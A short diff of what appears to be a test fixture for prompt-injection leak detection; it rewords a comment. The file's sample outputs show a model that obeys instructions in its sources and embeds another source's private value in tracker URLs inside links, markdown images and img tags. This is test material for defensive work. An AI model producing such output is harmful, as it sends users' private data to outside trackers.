@@ -30,7 +30,7 @@ export const SECRET = 'Sealed-5501';
 /** Contained in a note that the person who asks may read, and that the question finds. */
 export const OTHER_SOURCE = 'Payroll-7742';
 
-/** Text of a model that does what it is told, with the content of another source in each address. */
+/** What a model writes that obeys instructions in its sources, with the content of another source in each address. */
 export const OBEYING_TEXT = [
   `Read [more](${TRACKER}${OTHER_SOURCE}), <${TRACKER}${OTHER_SOURCE}> or ${TRACKER}${OTHER_SOURCE}.`,
   `![x](${TRACKER}${OTHER_SOURCE}) <img src="${TRACKER}${OTHER_SOURCE}">`,
